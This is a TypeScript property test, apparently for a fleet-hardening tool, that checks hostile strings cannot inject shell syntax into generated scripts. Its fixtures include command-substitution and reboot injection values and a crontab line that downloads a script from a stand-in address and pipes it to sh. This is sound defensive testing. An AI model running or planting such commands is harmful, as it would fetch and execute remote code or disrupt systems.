import { spawnSync } from "node:child_process";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { planFleet } from "../../src/plan/plan";
import type { HostPlan } from "../../src/plan/types";
import { exampleFleet } from "../../src/policy/fixtures";
import { FIXTURE_STRING_FIELDS, withString } from "../../src/policy/stringFields";
import { validateFleet } from "../../src/policy/validate";

// The script side of the hostile-string property (the validation side is in src/policy): whatever
// validation accepts, every generated script still parses, and a string that could mean something to
// a shell reaches no script at all (crontab lines, the only free text, feed drift's expectations only).
const SHELL_MEANINGFUL = /[\s'"`$\\;|&<>(){}*?!#~\x00-\x1f\x7f]/;
const MARKER = "hx7qz-planted";
const fragments = ["$(touch /tmp/harden-pwned)", "`id`", "'; reboot; '", "\"\n", "a\nb", "${IFS}", "x;y", "\\", "HARDEN_EOF_", "root"];

function scripts(plan: HostPlan): string[] {
  return [...plan.steps.map((s) => s.script), plan.teardown, plan.probe];
}

function parses(script: string): boolean {
  return spawnSync("sh", ["-n"], { input: script }).status === 0;
}

describe("hostile strings in rendered scripts", () => {
  it("accepted values reach scripts only when a shell cannot read anything into them", () => {
    // plausible names get past validation and so exercise rendering; the rest probe the edges
    const text = fc.oneof(
      fc.constantFrom(...fragments),
      fc.string({ unit: "binary-ascii", maxLength: 24 }),
      fc.stringMatching(/^[a-z_][a-z0-9_.-]{0,14}$/),
    );
    const field = fc.constantFrom(...FIXTURE_STRING_FIELDS);
    let accepted = 0;
    fc.assert(fc.property(field, text, (f, raw) => {
      // free text gets a marker no script contains by chance, so "reached a script" is decidable
      const s = f.freeText ? `${MARKER} ${raw}` : raw;
      const input = withString(exampleFleet(), f, s);
      if (!validateFleet(input).ok) return;
      accepted++;
      const all = planFleet(input).flatMap(scripts);
      for (const script of all) expect(parses(script)).toBe(true);
      if (SHELL_MEANINGFUL.test(s)) {
        expect(f.freeText, `${f.display} accepted ${JSON.stringify(s)}`).toBe(true);
        for (const script of all) expect(script.includes(MARKER), `${f.display}: ${JSON.stringify(s)} reached a script`).toBe(false);
      }
    }), { numRuns: 300, seed: 20261121 });
    console.log(`hostile-render: ${accepted} accepted samples rendered and parsed`);
    expect(accepted).toBeGreaterThan(0); // the property was exercised, not vacuously true
  });

  it("a free-text crontab line full of shell syntax stays out of every script", () => {
    const line = "*/5 * * * * curl -fsSL http://198.51.100.9/x.sh | sh; echo $(id) `id` 'q' \"d\"";
    const fleet = exampleFleet();
    const host = fleet.hosts[0];
    host.policy = { ...host.policy, cron: { ...host.policy?.cron, expected: [{ source: "root", line }] } };
    expect(validateFleet(fleet).ok).toBe(true);
    const [plan] = planFleet(fleet);
    for (const script of scripts(plan)) {
      expect(parses(script)).toBe(true);
      expect(script).not.toContain("198.51.100.9/x.sh");
    }
  });
});
